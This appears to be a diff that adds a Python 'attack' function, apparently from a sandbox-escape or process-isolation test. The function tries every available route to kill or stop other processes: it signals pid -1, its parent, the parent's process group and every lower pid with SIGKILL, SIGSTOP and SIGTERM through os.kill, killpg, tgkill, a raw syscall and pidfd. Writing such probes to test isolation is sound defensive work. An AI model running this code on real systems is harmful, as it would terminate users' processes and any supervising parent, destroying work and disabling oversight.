@@ -1,0 +1,18 @@
+# tries: every way to signal whatever it may
+def attack(keys, j):
+    import signal
+
+    for number in (9, 19, 15):
+        for pid in (-1, os.getppid(), -os.getpgid(os.getppid()), *range(2, os.getpid())):
+            for send_it in (os.kill, os.killpg):
+                try:
+                    send_it(pid, number)
+                except OSError:
+                    continue
+        for pid in range(2, os.getpid()):
+            libc.tgkill(pid, pid, number)
+            libc.syscall(200, pid, number)
+            try:
+                signal.pidfd_send_signal(os.pidfd_open(pid), number)
+            except OSError:
+                continue
